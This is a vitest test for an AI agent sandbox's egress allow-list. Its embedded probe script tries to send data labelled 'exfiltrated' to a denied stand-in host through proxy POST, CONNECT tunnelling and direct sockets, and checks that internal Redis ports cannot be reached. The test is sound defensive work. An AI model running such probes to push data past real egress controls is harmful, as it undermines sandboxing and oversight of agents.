import { execFileSync } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { createAgentSandbox } from '../../../src/sandbox/create-agent-sandbox.js';
import { CommandAgent } from '../../../src/agents/command/command-agent.js';
import { startOutsideServer, type OutsideServer } from '../../helpers/outside-server.js';
import { itWith } from '../../helpers/services.js';
import { tempDir } from '../../helpers/temp-dir.js';
import { logFacts } from '../../helpers/log-facts.js';

/**
 * What an agent with an egress allow-list reaches. ALLOWED and DENIED are two stand-ins for hosts
 * outside, each in a network namespace of its own; only ALLOWED is on the list. The probe speaks
 * the proxy protocol itself (Node's fetch ignores HTTP_PROXY), one `name=value` line per fact.
 */
const PROBE = `
const http = require('node:http');
const net = require('node:net');
const proxy = new URL(process.env.HTTP_PROXY);
const auth = 'Basic ' + Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
const say = (k, v) => console.log(k + '=' + v);
const plain = (host, body) => new Promise((done) => {
  const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'POST', path: 'http://' + host + '/plain', headers: { 'proxy-authorization': auth, host } }, (res) => { let t = ''; res.on('data', (c) => (t += c)); res.on('end', () => done(res.statusCode + ' ' + t.trim())); });
  req.on('error', (e) => done(e.code));
  req.end(body);
});
const tunnel = (host, body) => new Promise((done) => {
  const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: host + ':80', headers: { 'proxy-authorization': auth } });
  req.on('connect', (res, socket) => {
    if (res.statusCode !== 200) { socket.destroy(); return done(String(res.statusCode)); }
    socket.write('POST /tunnel HTTP/1.1\\r\\nhost: ' + host + '\\r\\ncontent-length: ' + body.length + '\\r\\nconnection: close\\r\\n\\r\\n' + body);
    let t = ''; socket.on('data', (c) => (t += c)); socket.on('end', () => done('200 ' + t.split('\\r\\n\\r\\n')[1]));
  });
  req.on('error', (e) => done(e.code));
  req.end();
});
const direct = (host, port) => new Promise((done) => {
  const s = net.connect(port, host); s.setTimeout(3000, () => { s.destroy(); done('timeout'); });
  s.on('connect', () => { s.destroy(); done('connected'); }); s.on('error', (e) => done(e.code));
});
(async () => {
  say('plain-allowed', await plain(process.env.ALLOWED, 'hello'));
  say('tunnel-allowed', await tunnel(process.env.ALLOWED, 'hello'));
  say('plain-denied', await plain(process.env.DENIED, 'exfiltrated-plain'));
  say('tunnel-denied', await tunnel(process.env.DENIED, 'exfiltrated-tunnel'));
  say('direct-denied', await direct(process.env.DENIED, 80));
  say('direct-allowed', await direct(process.env.ALLOWED, 80));
  say('redis-gateway', await direct('10.0.2.2', 6379));
  say('redis-loopback', await direct('127.0.0.1', 6379));
})();
`;

let allowed: OutsideServer;
let denied: OutsideServer;
beforeAll(async () => {
  allowed = await startOutsideServer('allowed-answers');
  denied = await startOutsideServer('denied-answers');
});
afterAll(async () => {
  await allowed?.close();
  await denied?.close();
});

describe('an agent with an egress allow-list (agent.network.allow)', () => {
  itWith('bwrap')('reaches listed hosts only through its proxy, and its refused requests are counted', async () => {
    const sandbox = await createAgentSandbox({ kind: 'auto', image: 'genesis/node:20', network: { allow: [allowed.host] } });
    const dir = await tempDir('genesis-egress-');
    const workspace = join(dir, 'ws');
    await mkdir(join(dir, 'home'), { recursive: true });
    execFileSync('git', ['init', '--quiet', workspace]);
    await writeFile(join(workspace, 'probe.js'), PROBE);
    const promptFile = join(dir, 'prompt.md');
    await writeFile(promptFile, 'probe\n');
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', ALLOWED: allowed.host, DENIED: denied.host, GENESIS_EPISODE_ID: 'e1' };
    const result = await new CommandAgent(['node', 'probe.js'], { sandbox }).run({
      workspace,
      promptFile,
      prompt: 'probe\n',
      env,
      timeoutMs: 60_000,
      taskId: 't',
      attempt: 1,
    });
    const seen = logFacts(result.log);
    expect(seen).toMatchObject({
      'plain-allowed': '200 allowed-answers',
      'tunnel-allowed': '200 allowed-answers',
      'plain-denied': expect.stringMatching(/^403 /),
      'tunnel-denied': '403',
    });
    for (const key of ['direct-denied', 'direct-allowed', 'redis-gateway']) expect(seen[key], key).toMatch(/^(ECONNREFUSED|EHOSTUNREACH|ENETUNREACH|timeout)$/);
    expect(seen['redis-loopback']).toBe('ECONNREFUSED');
    expect(result.egressRefused).toBe(2);
    expect(denied.received()).toEqual([]);
    expect(allowed.received().map((r) => `${r.method} ${r.url} ${r.body}`)).toEqual(['POST /plain hello', 'POST /tunnel hello']);
  });

  itWith('bwrap')('is refused with docker or none, which cannot enforce it', async () => {
    const error = await createAgentSandbox({ kind: 'none', image: 'genesis/node:20', network: { allow: ['example.com'] } }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'agent-sandbox-unavailable', message: expect.stringContaining('agent.network.allow') });
  });
});
